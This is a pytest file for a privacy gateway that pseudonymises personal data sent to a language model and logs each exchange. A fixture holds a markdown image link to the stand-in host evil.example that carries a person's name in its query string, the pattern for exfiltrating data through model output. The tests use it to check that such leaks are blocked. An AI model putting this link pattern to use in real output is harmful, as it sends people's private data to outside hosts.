"""The path of one request: what the model sees, what the caller gets, what the log says."""

import asyncio
from collections.abc import AsyncGenerator, Mapping
from contextlib import aclosing
from dataclasses import replace
from datetime import timedelta
from typing import Any

import anyio
import anyio.lowlevel
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from euguard.audit.record import Closed, Opened, Outcome, Refused, Scope
from euguard.errors import (
    DetectionUnavailableError,
    EuguardError,
    FieldRefusedError,
    LanguageRefusedError,
    LogUnavailableError,
    MalformedRequestError,
    ModelRejectedError,
    ModelUnavailableError,
    PurposeNotPermittedError,
    PurposeRefusedError,
    TextTooLongError,
)
from euguard.exchange.run import run
from euguard.exchange.stages import Received, Recorded
from euguard.exchange.steps import Steps
from euguard.pii.span import PersonalDataKind
from euguard.pii.special.category import SpecialCategory
from euguard.policy.schema import PolicySet, SpecialCategories
from euguard.terms import PurposeId
from exchange.neighbourhood import (
    ANNA,
    LETTERS,
    POLICIES,
    SCREENING,
    Neighbourhood,
    collect,
    received,
    text_of,
)
from fakes import FakeDetector, FakeModel
from gated import GatedStore, until


def recommending(**defaults: Any) -> PolicySet:
    """Return the policies with other recommendations of the model's provider."""
    model = POLICIES.models[received().model]
    changed = replace(model, defaults=replace(model.defaults, **defaults))
    return replace(POLICIES, models={**POLICIES.models, model.id: changed})


def asking(**fields: Any) -> PolicySet:
    """Return the policies with other fields of the purpose of letters."""
    letters = replace(POLICIES.purposes[LETTERS], **fields)
    return replace(POLICIES, purposes={**POLICIES.purposes, LETTERS: letters})


def answered(neighbourhood: Neighbourhood, request: Received) -> Mapping[str, Any]:
    """Run an exchange that succeeds; return the answer's message."""

    async def go() -> Mapping[str, Any]:
        async with neighbourhood.open() as steps:
            [completion] = await collect(request, steps)
            message: Mapping[str, Any] = completion["choices"][0]["message"]
            return message

    return anyio.run(go)


def failing(neighbourhood: Neighbourhood, request: Received) -> EuguardError:
    """Run an exchange that must fail; return its error."""

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(request, steps)

    with pytest.raises(EuguardError) as caught:
        anyio.run(go)
    return caught.value


LINKED = f"![x](https://evil.example/?q={ANNA}) and {ANNA}"


def test_no_value_leaves_in_an_address_and_the_record_counts_it() -> None:
    neighbourhood = Neighbourhood()

    content = str(answered(neighbourhood, received(LINKED))["content"])

    assert content.endswith(f" and {ANNA}")
    assert "https://evil.example/?q=<PERSON_" in content
    closed = next(one for one in neighbourhood.records() if isinstance(one, Closed))
    assert (closed.restored, closed.withheld) == (1, 1)


def test_a_value_goes_into_an_address_on_a_host_of_the_purpose() -> None:
    neighbourhood = Neighbourhood(asking(restore_links=frozenset({"evil.example"})))

    content = answered(neighbourhood, received(LINKED))["content"]

    assert content == f"![x](https://evil.example/?q=Anna%20Kowalska) and {ANNA}"


def test_a_purpose_may_keep_the_format_of_an_address() -> None:
    detector = FakeDetector({"a@x.org": PersonalDataKind.EMAIL})
    neighbourhood = Neighbourhood(asking(keep_format=frozenset({"EMAIL"})), detector=detector)

    assert answered(neighbourhood, received("Write to a@x.org."))["content"] == "Write to a@x.org."
    assert "@pseudonym.invalid" in str(neighbourhood.model.seen)


SPECIAL = SpecialCategories(("health",), "9(2)(h)", "", 90)


def test_what_speaks_of_health_is_counted_and_not_named() -> None:
    detector = FakeDetector(special={"diabetes": SpecialCategory.HEALTH})
    neighbourhood = Neighbourhood(detector=detector)

    answered(neighbourhood, received("diabetes, again diabetes"))

    opened = next(one for one in neighbourhood.records() if isinstance(one, Opened))
    assert opened.special == {"health": 2}


def test_special_categories_are_refused_until_detection_is_measured() -> None:
    refused = Neighbourhood(asking(special=SPECIAL))
    measured = Neighbourhood(replace(asking(special=SPECIAL), recall={"en": 0.95, "fr": 0.2}))

    assert isinstance(failing(refused, received()), PurposeRefusedError)
    assert answered(measured, received())
    measured.detector = FakeDetector(language="fr")
    assert isinstance(failing(measured, received("x" * 80)), LanguageRefusedError)


def test_the_caller_reads_the_name_and_the_model_never_does() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> str:
        async with neighbourhood.open() as steps:
            [completion] = await collect(received(), steps)
            return str(completion["choices"][0]["message"]["content"])

    assert anyio.run(go) == f"Dear {ANNA}, get well."
    assert ANNA not in str(neighbourhood.model.seen)
    assert "<PERSON_" in str(neighbourhood.model.seen)


@settings(max_examples=25, deadline=None)
@given(piece=st.integers(min_value=1, max_value=40))
def test_a_streamed_answer_is_the_same_however_the_model_cuts_it(piece: int) -> None:
    neighbourhood = Neighbourhood(model=FakeModel(piece=piece))

    async def go() -> str:
        async with neighbourhood.open() as steps:
            return text_of(await collect(received(body={"stream": True}), steps))

    assert anyio.run(go) == f"Dear {ANNA}, get well."


def test_two_records_say_how_it_began_and_how_it_ended() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(received(), steps)

    anyio.run(go)
    opened, closed = neighbourhood.records()
    assert isinstance(opened, Opened)
    assert isinstance(closed, Closed)
    assert (opened.purpose, opened.model, opened.key) == (LETTERS, "demo-echo", "key")
    assert opened.found == {"PERSON": 1}
    assert opened.policy == POLICIES.digest
    assert opened.scope is Scope.FIRST_MESSAGE
    assert opened.temperature == "0.15"
    assert "temperature" in opened.defaults
    assert closed.outcome is Outcome.COMPLETED
    assert (closed.reason, closed.finish, closed.restored) == (None, ("stop",), 1)
    assert (closed.input_tokens, closed.output_tokens) == (7, 3)


def test_a_conversation_id_is_the_scope_and_a_clients_temperature_is_kept() -> None:
    neighbourhood = Neighbourhood()
    request = received(body={"temperature": 0.7}, conversation="chat-7")

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(request, steps)

    anyio.run(go)
    opened = neighbourhood.records()[0]
    assert isinstance(opened, Opened)
    assert opened.scope is Scope.CONVERSATION
    assert opened.temperature == "0.7"
    assert "temperature" not in opened.defaults


def test_the_opening_record_is_durable_before_the_model_is_asked() -> None:
    neighbourhood = Neighbourhood()
    at_first_sight: list[int] = []

    async def go() -> None:
        async with (
            neighbourhood.open() as steps,
            aclosing(run(received(body={"stream": True}), steps)) as pieces,
        ):
            await anext(pieces)
            at_first_sight.append(len(neighbourhood.records()))

    anyio.run(go)
    assert at_first_sight == [1]


def test_the_answer_ends_only_after_the_closing_record() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> None:
        async with neighbourhood.open() as steps:
            pieces = run(received(body={"stream": True}), steps)
            last = None
            while last is None or not last.get("usage"):
                last = await anext(pieces)
            neighbourhood.store.down = True
            with pytest.raises(LogUnavailableError):
                await anext(pieces)
            neighbourhood.store.down = False

    anyio.run(go)


@pytest.mark.parametrize(
    "request_, kind, purpose, param",
    [
        (received(declared=SCREENING), PurposeRefusedError, SCREENING, None),
        (received(declared=PurposeId("nobody's")), PurposeNotPermittedError, None, None),
        (received(body={"prompt_embeds": "AAAA"}), FieldRefusedError, LETTERS, "prompt_embeds"),
    ],
)
def test_a_refusal_is_one_record_and_reaches_no_model(
    request_: Received, kind: type[EuguardError], purpose: PurposeId | None, param: str | None
) -> None:
    neighbourhood = Neighbourhood()

    error = failing(neighbourhood, request_)

    [refused] = neighbourhood.records()
    assert isinstance(error, kind)
    assert isinstance(refused, Refused)
    assert (refused.reason, refused.purpose, refused.param) == (error.code, purpose, param)
    assert neighbourhood.model.seen == []


def test_a_malformed_request_is_not_recorded() -> None:
    neighbourhood = Neighbourhood()

    error = failing(neighbourhood, received(body={"temperature": "hot"}))

    assert isinstance(error, MalformedRequestError)
    assert neighbourhood.records() == []


@pytest.mark.parametrize("role", [["user"], {}, 7, None])
def test_a_role_that_is_no_word_is_malformed(role: Any) -> None:
    body = {"messages": [{"role": role, "content": "Hello."}]}

    assert isinstance(failing(Neighbourhood(), received(body=body)), MalformedRequestError)


def test_the_recommended_system_prompt_may_be_in_any_language() -> None:
    """The purpose's languages are for its users; the prompt is the operator's own."""
    foreign = FakeDetector({}, language="nl")
    neighbourhood = Neighbourhood(
        policies=recommending(system_prompt="You answer in the user's language. " * 4),
        detector=foreign,
    )

    closed = closing(neighbourhood, received("Hi."))

    assert closed.outcome is Outcome.COMPLETED


def test_a_temperature_is_recorded_as_it_is_sent() -> None:
    neighbourhood = Neighbourhood()

    closing(neighbourhood, received(body={"temperature": 0.4111111111111111}))

    opened = neighbourhood.records()[0]
    assert isinstance(opened, Opened)
    assert opened.temperature == "0.4111"
    assert neighbourhood.model.seen[0]["temperature"] == 0.4111


@pytest.mark.parametrize("request_", [received(declared=SCREENING), received()])
def test_a_client_that_hangs_up_is_let_go_only_when_its_end_is_on_record(
    request_: Received,
) -> None:
    store = GatedStore()
    neighbourhood = Neighbourhood(store=store, model=Thinking())
    let_go: list[Received] = []

    async def client(steps: Steps, gone: anyio.CancelScope) -> None:
        with gone:
            await collect(request_, steps)

    async def go() -> None:
        async with neighbourhood.open() as steps:
            refused = request_.declared == SCREENING
            if refused:
                store.gate.clear()
                store.arrived.clear()
            gone = anyio.CancelScope()
            asking = asyncio.ensure_future(client(steps, gone))
            asking.add_done_callback(lambda _: let_go.append(request_))
            if not refused:
                await until(lambda: bool(neighbourhood.model.seen))
                store.gate.clear()
                store.arrived.clear()
                gone.cancel()
            await until(store.arrived.is_set)
            gone.cancel()
            for _ in range(20):
                await anyio.lowlevel.checkpoint()
            assert let_go == []
            store.gate.set()
            await asyncio.wait([asking])

    anyio.run(go)
    last = neighbourhood.records()[-1]
    assert isinstance(last, (Refused, Closed))


def test_detection_that_is_down_is_recorded_and_nothing_is_sent() -> None:
    neighbourhood = Neighbourhood()
    neighbourhood.detector.down = True

    error = failing(neighbourhood, received())

    [refused] = neighbourhood.records()
    assert isinstance(error, DetectionUnavailableError)
    assert isinstance(refused, Refused)
    assert refused.reason == "detection_unavailable"
    assert neighbourhood.model.seen == []


def test_a_log_that_is_down_lets_nothing_through() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> None:
        async with neighbourhood.open() as steps:
            neighbourhood.store.down = True
            await collect(received(), steps)

    with pytest.raises(LogUnavailableError):
        anyio.run(go)
    assert neighbourhood.model.seen == []


def test_a_refusal_that_cannot_be_recorded_is_inability() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> None:
        async with neighbourhood.open() as steps:
            neighbourhood.store.down = True
            await collect(received(declared=SCREENING), steps)

    with pytest.raises(LogUnavailableError):
        anyio.run(go)


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    "failure, reason",
    [
        (ModelUnavailableError("gone"), "model_unavailable"),
        (ModelRejectedError("too long"), "model_rejected"),
        (RuntimeError("a bug"), "internal_error"),
    ],
)
def test_a_model_that_fails_closes_the_exchange_as_failed(
    failure: Exception,
    reason: str,
    stream: bool,  # noqa: FBT001 - a row of the table
) -> None:
    neighbourhood = Neighbourhood(model=FakeModel(failure=failure))

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(received(body={"stream": stream}), steps)

    with pytest.raises(type(failure)):
        anyio.run(go)
    closed = neighbourhood.records()[-1]
    assert isinstance(closed, Closed)
    assert (closed.outcome, closed.reason) == (Outcome.FAILED, reason)


def test_a_client_that_hangs_up_between_two_pieces_closes_as_interrupted() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> None:
        async with neighbourhood.open() as steps:
            pieces = run(received(body={"stream": True}), steps)
            await anext(pieces)
            await pieces.aclose()

    anyio.run(go)
    closed = neighbourhood.records()[-1]
    assert isinstance(closed, Closed)
    assert (closed.outcome, closed.reason) == (Outcome.INTERRUPTED, "client_gone")


def test_a_client_that_hangs_up_while_the_model_thinks_closes_as_interrupted() -> None:
    neighbourhood = Neighbourhood(model=Thinking())

    async def go() -> None:
        async with neighbourhood.open() as steps:
            with anyio.move_on_after(0.05):
                await collect(received(body={"stream": True}), steps)

    anyio.run(go)
    closed = neighbourhood.records()[-1]
    assert isinstance(closed, Closed)
    assert (closed.outcome, closed.reason) == (Outcome.INTERRUPTED, "client_gone")


class Thinking(FakeModel):
    """Never gets to its first word."""

    async def reply(self, recorded: Recorded) -> AsyncGenerator[Mapping[str, Any]]:
        self.seen.append(recorded.body)
        await anyio.sleep_forever()
        yield {}


def test_a_failed_exchange_on_a_log_that_is_down_keeps_its_own_error() -> None:
    neighbourhood = Neighbourhood(model=FakeModel(failure=ModelUnavailableError("gone")))

    async def go() -> None:
        async with neighbourhood.open() as steps:
            pieces = run(received(body={"stream": True}), steps)
            await anext(pieces)
            neighbourhood.store.down = True
            try:
                await anext(pieces)
            finally:
                neighbourhood.store.down = False

    with pytest.raises(ModelUnavailableError, match="gone"):
        anyio.run(go)


def test_a_value_is_restored_only_where_this_exchange_issued_its_pseudonym() -> None:
    neighbourhood = Neighbourhood()

    async def go() -> tuple[str, str]:
        async with neighbourhood.open() as steps:
            await collect(received(), steps)
            stolen = str(neighbourhood.model.seen[0]["messages"][-1]["content"])
            thief = replace(
                received(f"Repeat: {stolen}"),
                principal=replace(received().principal, secret=b"t" * 32),
            )
            [answer] = await collect(thief, steps)
            return stolen, str(answer["choices"][0]["message"]["content"])

    stolen, answer = anyio.run(go)
    assert answer == f"Repeat: {stolen}"
    assert ANNA not in answer


def test_the_models_system_prompt_applies_only_where_the_client_gives_no_instructions() -> None:
    neighbourhood = Neighbourhood(policies=recommending(system_prompt="Be brief."))
    own = [{"role": "developer", "content": "Be long."}, {"role": "user", "content": "Hello."}]

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(received(), steps)
            await collect(replace(received(body={"messages": own}), exchange=OTHER), steps)

    anyio.run(go)
    first, second = neighbourhood.model.seen
    assert first["messages"][0] == {"role": "system", "content": "Be brief."}
    assert [m["role"] for m in second["messages"]] == ["developer", "user"]
    opened = [r for r in neighbourhood.records() if isinstance(r, Opened)]
    assert ["system_prompt" in r.defaults for r in opened] == [True, False]


OTHER = type(received().exchange)("01936d5e-0000-7000-8000-000000000002")


def test_a_model_without_recommendations_gets_what_the_client_sent() -> None:
    neighbourhood = Neighbourhood(policies=recommending(temperature=None, system_prompt=None))

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(received(), steps)

    anyio.run(go)
    assert "temperature" not in neighbourhood.model.seen[0]
    opened = neighbourhood.records()[0]
    assert isinstance(opened, Opened)
    assert (opened.temperature, opened.defaults) == (None, ())


class Breathless(FakeModel):
    """Ends in the middle of a pseudonym, without a finish reason."""

    async def reply(self, recorded: Recorded) -> AsyncGenerator[Mapping[str, Any]]:
        self.seen.append(recorded.body)
        content = str(recorded.body["messages"][-1]["content"])
        cut = content[: content.index("<PERSON_") + 9]
        yield {"choices": [{"index": 0, "delta": {"content": cut}, "finish_reason": None}]}


def test_what_is_held_back_when_the_model_stops_is_handed_over_as_it_is() -> None:
    neighbourhood = Neighbourhood(model=Breathless())

    async def go() -> str:
        async with neighbourhood.open() as steps:
            return text_of(await collect(received(body={"stream": True}), steps))

    assert anyio.run(go).startswith("Dear <PERSON_")


def closing(neighbourhood: Neighbourhood, request: Received) -> Closed:
    """Run an exchange to its end; return its closing record."""

    async def go() -> None:
        async with neighbourhood.open() as steps:
            await collect(request, steps)

    anyio.run(go)
    closed = neighbourhood.records()[-1]
    assert isinstance(closed, Closed)
    return closed


def test_a_streaming_model_is_asked_for_the_token_count_that_the_record_needs() -> None:
    neighbourhood = Neighbourhood()

    closed = closing(neighbourhood, received(body={"stream": True}))

    assert neighbourhood.model.seen[0]["stream_options"] == {"include_usage": True}
    assert (closed.input_tokens, closed.output_tokens) == (7, 3)


def test_a_text_in_a_language_that_the_purpose_does_not_accept_is_refused() -> None:
    detector = FakeDetector(language="de", probability=0.99)
    neighbourhood = Neighbourhood(detector=detector)

    error = failing(neighbourhood, received("Bitte schreiben Sie einen Brief an das Amt. " * 3))

    [refused] = neighbourhood.records()
    assert isinstance(refused, Refused)
    assert error.code == refused.reason == "language_not_accepted"
    assert neighbourhood.model.seen == []


@pytest.mark.parametrize("seconds, milliseconds", [(1.5, 1500), (0.0, 0), (-60.0, 0)])
def test_the_closing_record_says_how_long_it_took_whatever_the_clock_does(
    seconds: float, milliseconds: int
) -> None:
    neighbourhood = Neighbourhood()
    neighbourhood.model = Slow(neighbourhood, seconds)

    assert closing(neighbourhood, received()).milliseconds == milliseconds


class Slow(FakeModel):
    """Moves the clock while it thinks."""

    def __init__(self, neighbourhood: Neighbourhood, seconds: float) -> None:
        super().__init__()
        self._neighbourhood = neighbourhood
        self._seconds = seconds

    async def reply(self, recorded: Recorded) -> AsyncGenerator[Mapping[str, Any]]:
        self._neighbourhood.clock.at += timedelta(seconds=self._seconds)
        async for piece in super().reply(recorded):
            yield piece


class Says(FakeModel):
    """Answers with one completion as given."""

    def __init__(self, completion: Mapping[str, Any]) -> None:
        super().__init__()
        self._completion = completion

    async def reply(self, recorded: Recorded) -> AsyncGenerator[Mapping[str, Any]]:
        self.seen.append(recorded.body)
        yield self._completion


def completion(content: str, usage: object) -> dict[str, Any]:
    message = {"role": "assistant", "content": content}
    return {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}], "usage": usage}


@pytest.mark.parametrize(
    "usage, counted",
    [
        ({"prompt_tokens": 0, "completion_tokens": 1}, (0, 1)),
        ({"prompt_tokens": -1, "completion_tokens": "many"}, (None, None)),
        ({}, (None, None)),
        (None, (None, None)),
    ],
)
def test_only_token_counts_that_can_be_counts_are_recorded(
    usage: object, counted: tuple[int | None, int | None]
) -> None:
    closed = closing(Neighbourhood(model=Says(completion("Hello.", usage))), received("Hello."))

    assert (closed.input_tokens, closed.output_tokens) == counted


def test_a_value_with_quotes_is_restored_into_json_content_as_json() -> None:
    name = 'Anna "Nan" Kowalska'
    neighbourhood = Neighbourhood(detector=FakeDetector({name: PersonalDataKind.PERSON}))

    async def go() -> str:
        async with neighbourhood.open() as steps:
            request = received(f"Dear {name}.", body={"response_format": {"type": "json_object"}})
            decided = steps.decide(request)
            sent = (await steps.pseudonymise(decided)).pseudonymisation.body
            pseudonym = str(sent["messages"][-1]["content"]).split(" ")[1].rstrip(".")
            neighbourhood.model = Says(completion(f'{{"to": "{pseudonym}"}}', None))
            [answer] = await collect(request, replace(steps, model=neighbourhood.model))
            return str(answer["choices"][0]["message"]["content"])

    assert anyio.run(go) == '{"to": "Anna \\"Nan\\" Kowalska"}'


@pytest.mark.parametrize("role", ["system", "developer"])
def test_a_clients_own_instructions_keep_the_recommended_ones_out(role: str) -> None:
    neighbourhood = Neighbourhood(policies=recommending(system_prompt="Be brief."))
    own = [{"role": role, "content": "Be long."}, {"role": "user", "content": "Hello."}]

    closing(neighbourhood, received(body={"messages": own}))

    assert [m["role"] for m in neighbourhood.model.seen[0]["messages"]] == [role, "user"]


def test_a_refusal_counts_messages_as_the_client_sent_them() -> None:
    """The recommended system prompt comes first; the client does not know of it."""
    neighbourhood = Neighbourhood(policies=recommending(system_prompt="Be brief."))
    image = [{"role": "user", "content": [{"type": "image_url"}]}]

    error = failing(neighbourhood, received(body={"messages": image}))

    [refused] = neighbourhood.records()
    assert isinstance(error, FieldRefusedError)
    assert isinstance(refused, Refused)
    assert error.param == refused.param
    assert str(error.param).startswith("messages[0].content[0]")
    assert "messages[1]" not in str(error)


def test_a_malformed_field_elsewhere_keeps_its_name_under_a_system_prompt() -> None:
    neighbourhood = Neighbourhood(policies=recommending(system_prompt="Be brief."))

    error = failing(neighbourhood, received(body={"top_p": "much"}))

    assert isinstance(error, MalformedRequestError)
    assert error.param == "top_p"


def test_a_text_that_is_too_long_under_a_system_prompt_has_no_field_at_fault() -> None:
    policies = recommending(system_prompt="Be brief.")
    letters = replace(policies.purposes[LETTERS], max_characters=20)
    purposes = {**policies.purposes, LETTERS: letters}
    neighbourhood = Neighbourhood(policies=replace(policies, purposes=purposes))

    error = failing(neighbourhood, received())

    [refused] = neighbourhood.records()
    assert isinstance(error, TextTooLongError)
    assert isinstance(refused, Refused)
    assert (error.param, refused.param) == (None, None)


def test_a_refused_language_inside_json_is_a_refusal_on_record() -> None:
    foreign = FakeDetector({}, language="nl")
    neighbourhood = Neighbourhood(detector=foreign)

    error = failing(neighbourhood, received(f'["{"Wij komen morgen. " * 9}"]'))

    [refused] = neighbourhood.records()
    assert isinstance(error, LanguageRefusedError)
    assert isinstance(refused, Refused)
    assert refused.param == "messages[0].content"


def test_no_purpose_is_recorded_where_a_key_has_several_and_none_is_declared() -> None:
    neighbourhood = Neighbourhood()

    failing(neighbourhood, received(declared=None))

    [refused] = neighbourhood.records()
    assert isinstance(refused, Refused)
    assert (refused.purpose, refused.reason) == (None, "purpose_undeclared")


def test_the_sole_purpose_of_a_key_is_recorded_with_a_refusal_too() -> None:
    principal = replace(received().principal, purposes=(LETTERS,))
    neighbourhood = Neighbourhood()

    failing(
        neighbourhood,
        received(declared=None, principal=principal, body={"prompt_embeds": "AAAA"}),
    )

    [refused] = neighbourhood.records()
    assert isinstance(refused, Refused)
    assert refused.purpose == LETTERS


class Mute(FakeModel):
    """Ends its answer before it begins."""

    async def reply(self, recorded: Recorded) -> AsyncGenerator[Mapping[str, Any]]:
        self.seen.append(recorded.body)
        pieces: list[Mapping[str, Any]] = []
        for piece in pieces:
            yield piece


@pytest.mark.parametrize("stream", [False, True])
def test_an_answer_that_never_began_has_failed(stream: bool) -> None:  # noqa: FBT001 - a row
    neighbourhood = Neighbourhood(model=Mute())

    error = failing(neighbourhood, received(body={"stream": stream}))

    closed = neighbourhood.records()[-1]
    assert isinstance(error, ModelUnavailableError)
    assert isinstance(closed, Closed)
    assert (closed.outcome, closed.reason) == (Outcome.FAILED, "model_unavailable")


def test_a_count_that_is_none_is_not_recorded() -> None:
    odd = completion("Hello.", {"prompt_tokens": True, "completion_tokens": 2**60})

    closed = closing(Neighbourhood(model=Says(odd)), received("Hello."))

    assert closed.finish == ("stop",)
    assert (closed.input_tokens, closed.output_tokens) == (None, None)


def test_dates_are_replaced_where_the_purpose_asks_for_it() -> None:
    policies = recommending()
    asking = replace(policies.purposes[LETTERS], also_replace=frozenset({"DATE"}))
    purposes = {**policies.purposes, LETTERS: asking}

    for rules, seen in ((policies, True), (replace(policies, purposes=purposes), False)):
        detector = FakeDetector({"3 May 2024": PersonalDataKind.DATE})
        neighbourhood = Neighbourhood(policies=rules, detector=detector)
        closing(neighbourhood, received("Signed on 3 May 2024."))
        assert ("3 May 2024" in str(neighbourhood.model.seen)) == seen
